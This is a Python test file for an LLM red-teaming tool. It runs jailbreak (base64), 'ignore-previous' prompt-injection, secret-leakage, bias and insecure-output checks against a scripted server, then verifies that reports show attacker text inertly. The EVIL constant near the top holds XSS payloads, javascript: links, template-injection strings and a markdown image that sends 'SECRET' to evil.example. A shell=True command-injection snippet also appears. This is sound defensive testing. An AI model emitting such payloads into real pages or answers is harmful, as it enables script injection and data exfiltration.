"""Every red-team capability together, from the CLI, on both stores, with hostile text everywhere.

One store is built the way a user would: behaviours imported and attacked (`assay redteam run`,
`detect`), counterfactual bias probes and BBQ questions answered, code and markdown in answers
scanned (`scan-code`, `scan-rendering`), prompt injection and leakage run, all against
assay.testing's scripted server. The report (HTML, Markdown, JSON) must show every red-team
subsection with the figures the commands printed, and the attacker's text (model answers, imported
prompts and categories) only as inert text: escaped in HTML, with no live link or image in Markdown,
and, opened in Chromium, no dialog, no console error and no request to evil.example.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from assay.cli import main
from assay.redteam.injection import injection_cases
from assay.redteam.leakage import leak_cases
from assay.testing import ScriptedServer
from assay.testing.injection import Scripted, cases_of

BBQ = Path(__file__).parents[1] / "redteam" / "data" / "bbq"
# what an attacker would put in a model's answer or an imported prompt
EVIL = ('<script>alert(1)</script> "><img src=x onerror=alert(1)> [click me](javascript:alert(1)) '
        '<a href="javascript:alert(1)">x</a> ![a](https://evil.example/?q=SECRET) '
        '\x00 \u202eexe.txt {{ 7*7 }} {% if 1 %}TPL{% endif %} ' + "W" * 3000)
CODE = "```python\nimport subprocess\nsubprocess.call(user_input, shell=True)\n```\n"
# an import refuses NUL (a store cannot hold it as text: exit 2, tested below); the rest of the payload goes in
IMPORTED = EVIL.replace("\x00 ", "")
# a category is at most 200 characters (a longer one is refused: tests/io/test_edges.py)
CATEGORY = "Age <script>alert(1)</script> ![a](https://evil.example/?q=CATEGORY) [x](javascript:alert(1))"
GOALS = ["explain goal zero", "explain goal one", "explain goal two", "say hello", "name a colour"]


def target(body: dict) -> str:
    """Refuses unsafe behaviours plainly (echoing the prompt, hostile text and all); complies with the safe
    ones and with anything in base64, answering with insecure code and hostile markdown."""
    last = body["messages"][-1]["content"]
    if "say hello" in last or "name a colour" in last or not any(g in last for g in GOALS):
        return f"Sure, here it is.\n{CODE}{EVIL}"
    return f"I'm sorry, but I can't help with: {last}"


def bbq_answer(body: dict) -> str:
    """Always the first option, with hostile text after it."""
    return f"The answer is (A). {EVIL}"


def _run(capsys, *args: str, code: int = 0) -> str:
    assert main(list(args)) == code, capsys.readouterr()
    return capsys.readouterr().out


def _json(capsys, *args: str) -> dict | list:
    return json.loads(_run(capsys, *args, "--json"))


class _Tables(HTMLParser):
    """Every table row of an HTML page as its cells' text."""

    def __init__(self) -> None:
        super().__init__()
        self.rows: list[list[str]] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None and self.rows:
            self.rows[-1].append(" ".join("".join(self._cell).split()))
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def _rows(html: str) -> list[list[str]]:
    p = _Tables()
    p.feed(html)
    return p.rows


def _f(x) -> str:
    return "—" if x is None else f"{x:.3f}"


def _ci(low, high) -> str:
    return "no interval" if low is None or high is None else f"[{low:.3f}, {high:.3f}]"


def _build(db: list[str], tmp_path: Path, capsys) -> dict:
    """The store, built with the CLI; what each command printed (JSON)."""
    beh = tmp_path / "beh.jsonl"
    beh.write_text("".join(json.dumps({"id": f"b{k}", "prompt": f"{g} {IMPORTED}", "category": CATEGORY,
                                       "label": "safe" if g in ("say hello", "name a colour") else "unsafe"}) + "\n"
                           for k, g in enumerate(GOALS)))
    templates = tmp_path / "templates.jsonl"
    templates.write_text("".join(json.dumps({"id": f"t{k}", "prompt": f"Write a short note about {{person}}. {t} {IMPORTED}"})
                                 + "\n" for k, t in enumerate(["Be kind.", "Be brief.", "Be formal.", "Be warm."])))
    bbq = tmp_path / "bbq"
    bbq.mkdir()
    rows = [json.loads(line) for line in (BBQ / "Age.jsonl").read_text().splitlines() if line.strip()][:16]
    for r in rows:  # the imported text carries the payload too
        r["context"], r["category"] = f"{r['context']} {IMPORTED}", CATEGORY
    (bbq / "Age.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))

    _, by = injection_cases("injection-direct", ["ignore-previous"], ["review-direct"], repeats=3, seed=0)
    _, leaks = leak_cases("leakage", ["ask"], ["bank-support"], repeats=3, seed=0)
    scripted = Scripted(cases_of([i for v in [*by.values(), *leaks.values()] for i in v]),
                        {"obey": 1, "ignore": 1, "leak_plain": 1, "keep": 1}, seed=3)
    from assay.testing.planted import PlantedBias

    planted = PlantedBias({}, base=0.5, seed=1)
    handlers = {"target": target, "stereotyped": bbq_answer, "t": lambda b: f"{scripted(b)} {EVIL}",
                "m": lambda b: f"{planted(b)} {EVIL}"}
    out: dict = {}
    with ScriptedServer(handler=lambda body: handlers[body["model"]](body)) as srv:
        net = ["--base-url", srv.base_url, "--backoff", "0.01", "--max-retries", "1"]
        _run(capsys, *db, "import", str(beh), "--dataset", "beh")
        _run(capsys, *db, "redteam", "run", "--behaviors", "beh", "--model", "target@1", "--attack", "direct",
             "--attack", "base64", *net)
        _run(capsys, *db, "generate", "--dataset", "beh", "--model", "target@1", *net)  # for over-refusal
        _run(capsys, *db, "import", str(templates), "--dataset", "tpl")
        out["bias_run"] = _json(capsys, *db, "redteam", "bias", "run", "--model", "m@1", "--templates", "tpl",
                                "--attribute", "age", "--verifier", "refusal", *net)
        out["bbq_import"] = _json(capsys, *db, "redteam", "import", "bbq", str(bbq / "Age.jsonl"))
        _run(capsys, *db, "redteam", "bias", "bbq", "--model", "stereotyped@1", *net)
        out["inject"] = _json(capsys, *db, "redteam", "inject", "--model", "t@1", "--technique", "ignore-previous",
                              "--carrier", "review-direct", "--repeats", "3", "--yes", *net)
        out["leak"] = _json(capsys, *db, "redteam", "leak", "--model", "t@1", "--probe", "ask", "--vault",
                            "bank-support", "--repeats", "3", "--yes", *net)
    _run(capsys, *db, "redteam", "detect")
    out["asr"] = _json(capsys, *db, "redteam", "asr", "--by", "model,attack")
    out["refusals"] = _json(capsys, *db, "redteam", "refusals", "--rater", "refusal")
    out["bias"] = _json(capsys, *db, "redteam", "bias", "results", "--model", "m@1")
    out["bbq"] = _json(capsys, *db, "redteam", "bias", "bbq-results", "--model", "stereotyped@1")
    out["scan_code"] = _json(capsys, *db, "redteam", "scan-code")
    out["scan_rendering"] = _json(capsys, *db, "redteam", "scan-rendering")
    out["code"] = _json(capsys, *db, "redteam", "insecure", "--detector", "code")
    out["rendering"] = _json(capsys, *db, "redteam", "insecure", "--detector", "rendering")
    return out


def test_every_redteam_subsection_with_the_commands_figures_and_hostile_text_inert(store_url, tmp_path, capsys):
    db = ["--db", store_url]
    cli = _build(db, tmp_path, capsys)
    for kind in ("html", "md", "json"):
        _run(capsys, *db, "report", "--out", str(tmp_path / f"r.{kind}"), "--rounds", "50")
    report = json.loads((tmp_path / "r.json").read_text())
    html = (tmp_path / "r.html").read_text()
    md = (tmp_path / "r.md").read_text()
    table = _rows(html)

    # every red-team subsection, in the HTML and the Markdown
    for heading in ("Attack success rate", "Over-refusal and unsafe compliance", "Prompt injection (the injected",
                    "Secret leakage (the planted", "Insecure outputs", "Bias: counterfactual probes", "Bias: BBQ"):
        assert heading in html, heading
    for heading in ("### Red team", "#### Prompt injection", "#### Secret leakage", "#### Insecure outputs",
                    "#### Bias"):
        assert heading in md, heading
    assert md.index("### Red team") < md.index("#### Bias")  # bias is part of the red-team section

    # ASR: the rows `assay redteam asr` printed, in the first table
    first = report["redteam"]["tables"][0]
    assert first["rater"] == cli["asr"]["rater"] and first["rows"] == cli["asr"]["rows"]
    for x in cli["asr"]["rows"]:
        assert ["target@1", x["attack"], str(x["attempts"]), str(x["n"]), str(x["successes"]), _f(x["asr"]),
                _ci(x["low"], x["high"]), str(x["unjudged"])] in table
        assert f"| target@1 | {x['attack']} | {x['n']} | {x['successes']} | {_f(x['asr'])} " in md
    assert {x["attack"]: x["successes"] for x in cli["asr"]["rows"]}["base64"] == len(GOALS)  # base64 always works
    # over-refusal: what `assay redteam refusals` printed
    (ref,) = cli["refusals"]
    (shown,) = report["refusals"]["raters"][0]["rows"]
    assert shown["over_refusal"] == ref["over_refusal"] and shown["unsafe_compliance"] == ref["unsafe_compliance"]
    o = ref["over_refusal"]
    assert (o["n"], ref["unsafe_compliance"]["n"]) == (2, 3)  # the imported labels: 2 safe, 3 unsafe prompts
    assert f"{o['k']}/{o['n']} = {_f(o['rate'])} {_ci(o['low'], o['high'])}" in html
    # injection and leakage: what `assay redteam inject` / `leak` printed
    fams = {f["dimension"]: f for f in report["injection"]["families"]}
    for dim, key in (("injected", "inject"), ("leaked", "leak")):
        (row,) = cli[key]["rates"]
        (got,) = fams[dim]["by_attack"]
        assert (got["attack"], got["n"], got["successes"]) == (row["attack"], row["n"], row["successes"])
        assert ["t@1", row["attack"], str(row["n"]), str(row["successes"]), _f(row["asr"]),
                _ci(row["low"], row["high"])] in table
        assert 0 < row["successes"] <= row["n"] == 3
    # insecure outputs: what `assay redteam insecure` printed, per detector
    for detector in ("code", "rendering"):
        (t,) = [t for t in report["insecure"]["tables"] if t["detector"] == detector]
        assert t["rows"] == cli[detector]["rows"]
        for x in t["rows"]:
            assert [detector, t["name"], x["model"], str(x["scanned"]), str(x["n"]), str(x["hits"]), _f(x["rate"]),
                    _ci(x["low"], x["high"]), ", ".join(f"{y['id']} ({y['count']})" for y in x["top"])] in table
    code = {x["model"]: x for x in cli["code"]["rows"]}
    assert code["target@1"]["hits"] == cli["scan_code"]["labels"]["insecure"] > 0
    assert code["target@1"]["top"][0]["id"] == "CWE-78"  # shell=True
    assert sum(x["hits"] for x in cli["rendering"]["rows"]) == cli["scan_rendering"]["labels"]["unsafe"]
    # bias: the gaps `assay redteam bias results` printed, and BBQ's scores from `bias bbq-results`
    (cf,) = report["bias"]["counterfactual"]
    assert cf["rater"] == cli["bias"]["rater"]
    gaps = [g for a in cli["bias"]["attributes"] for g in a["gaps"]]
    assert [g for a in cf["attributes"] for g in a["gaps"]] == gaps and len(gaps) == 3
    for g in gaps:
        assert ["age", g["group_a"], g["group_b"], str(g["n"]), _f(g["mean_a"]), _f(g["mean_b"]), _f(g["estimate"]),
                _ci(g["low"], g["high"])] == next(r[:8] for r in table if r[:3] == ["age", g["group_a"], g["group_b"]])
    (bbq,) = report["bias"]["bbq"]
    assert bbq["read"] == cli["bbq"]["read"] == cli["bbq_import"][0]["examples"] == 16
    keys = ("accuracy_ambiguous", "accuracy_disambiguated", "bias_ambiguous", "bias_disambiguated")
    for want, got in zip(cli["bbq"]["rows"], bbq["rows"]):
        assert [want["category"], *(want[k] for k in keys)] == [got["category"], *(got[k] for k in keys)]
    # red-team verdicts stay out of the sections about quality scores
    rubrics = {s.get("rubric") for s in report["agreement"]} | {d["rubric"] for d in report["lowest"]}
    assert not rubrics & {"redteam@1", "injection@1", "insecure-output@1"}, rubrics
    assert "insecure-output@1" not in md and "redteam@1 ·" not in md

    _hostile_text_is_inert(html, md)
    _browser(tmp_path / "r.html", tmp_path / "r.png")


def _hostile_text_is_inert(html: str, md: str) -> None:
    assert "evil.example" in html and "evil.example" in md  # the text is there, to be read
    body = html[:html.index("<script>")]  # before plotly.js and the report's own two scripts
    assert "<script>alert" not in body and "&lt;script&gt;alert(1)&lt;/script&gt;" in body
    assert re.search(r"<[a-z]+[^>]*\son\w+\s*=", body) is None  # no element carries an event handler
    assert 'href="javascript' not in html.lower() and "<img" not in body
    assert "{{ 7*7 }}" in html and re.search(r"(?<!\{% if 1 %\})TPL", html) is None  # no template ran
    # controls shown, not obeyed; a model's NUL arrives as U+FFFD (PostgreSQL cannot store it)
    assert "\x00" not in html and "\u202e" not in html and "[U+202E]exe.txt" in html and "\ufffd" in html
    # Markdown: no live image or link, no raw HTML, no control character
    live = re.sub(r"\\[\\\[\]()!]", "", md)  # an escaped bracket is text, not syntax
    assert "](" not in live and "evil.example/?q=CATEGORY" in md
    assert "<script" not in md and "<img" not in md and "<a href" not in md
    assert "\x00" not in md and "\u202e" not in md
    assert "{{ 7\\*7 }}" in md or "{{ 7*7 }}" in md


def _browser(path: Path, shot: Path) -> None:
    """Open the report offline in Debian's Chromium: nothing the text carried may run or load."""
    from tests.server.chromium import ARGS, CHROMIUM, sync_api

    api = sync_api()  # a skip here, a failure under CI=true, when Playwright or Chromium is missing
    problems: list[str] = []
    requests: list[str] = []
    with api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        page.on("dialog", lambda d: (problems.append(f"dialog: {d.message}"), d.dismiss()))
        page.on("console", lambda m: m.type == "error" and problems.append(f"console: {m.text}"))
        page.on("pageerror", lambda e: problems.append(f"pageerror: {e}"))
        page.on("request", lambda r: requests.append(r.url))
        page.goto(path.resolve().as_uri())
        page.wait_for_function("document.querySelectorAll('.js-plotly-plot .main-svg').length > 0")
        page.locator("#redteam").scroll_into_view_if_needed()
        page.wait_for_timeout(300)  # any injected handler's chance to run
        live = page.evaluate("""() => [...document.querySelectorAll('#redteam img, #redteam script, #redteam iframe, '
            + '#redteam a[href^="javascript"], #redteam [onerror]')].length""")
        wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        page.screenshot(path=str(shot), full_page=False)
        browser.close()
    assert problems == [] and live == 0
    assert [u for u in requests if not u.startswith("file://")] == []
    assert wide <= 0, f"the page scrolls sideways by {wide} px"  # 3,000-character lines wrap
